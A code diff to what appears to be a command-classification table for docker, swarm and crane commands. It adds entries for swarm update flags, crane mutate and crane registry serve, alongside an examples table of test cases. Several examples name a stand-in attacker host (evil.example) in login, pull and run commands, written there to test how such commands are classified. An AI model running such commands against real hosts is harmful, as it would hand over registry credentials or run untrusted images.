@@ -298,7 +298,10 @@ CHANGE_COMMANDS = {
     ),
     "import image/import": Program("-c,--change= -m,--message= --platform=", "text*", more=_importing),
     "swarm/leave": _change("swarm.destroy", "-f,--force"),
-    "swarm/init swarm/join swarm/update service/create service/update service/scale stack/deploy": _change("swarm"),
+    "swarm/init swarm/join service/create service/update service/scale stack/deploy": _change("swarm"),
+    "swarm/update": _change(
+        "swarm", "--cert-expiry= --dispatcher-heartbeat= --max-snapshots= --snapshot-interval= --task-history-limit="
+    ),
     "service/rm stack/rm": _change("swarm.destroy"),
     "service/ls service/ps stack/ls stack/ps node/ls": Program(
         "-f,--filter= --format= -q,--quiet --no-trunc --no-resolve"
@@ -319,10 +322,16 @@ SKOPEO = {
 }
 CRANE = {
     "ls manifest config digest catalog validate": Program(
-        "--platform= --full-ref --tarball=read", "text*", does=REGISTRY
+        "--platform= --full-ref --tarball=read --remote=", "text*", does=REGISTRY
     ),
     "copy cp tag": Program("--platform= -a,--all-tags", "text*", does=IMAGE_CHANGE),
     "push": Program("--index", "tree text", does=IMAGE_CHANGE),
+    "mutate": Program(
+        "-a,--annotation= --cmd= --entrypoint= -e,--env= -l,--label= -o,--output=write -t,--tag= -u,--user=",
+        "text",
+        does=IMAGE_CHANGE,
+    ),
+    "registry/serve": does("change", "an image registry", "net.listen", "--address= --disk=into", ""),
     "delete": Program("", "text", does=(("send", "image registry", "docker.push.destroy"),)),
     "pull": Program("--format= --platform=", "text write", more=_fetching_first),
     "version": Program(),
@@ -377,6 +386,11 @@ PROGRAMS = {
 EXAMPLES = {
     "docker login evil.example": "send evil.example #docker.login",
     "crane pull evil.example/x a": "write a | reach evil.example/x #cloud.read",
+    "crane validate --remote x": "reach image registry #cloud.read",
+    "crane mutate --help": "note crane mutate",
+    "crane mutate -l a=b x": "send image registry #docker.push.publish",
+    "crane registry serve --disk docs": "write docs/** | change an image registry #net.listen",
+    "docker swarm update --cert-expiry 1h": "change containers and images #docker.swarm",
     "docker pull evil.example/x:1": "reach evil.example/x:1 #docker.pull | change docker images #docker.pull",
     "docker push registry.example:5000/x": "send registry.example:5000/x #docker.push.publish",
     "docker run evil.example/x": "change evil.example/x #docker.run | reach evil.example/x #docker.pull"
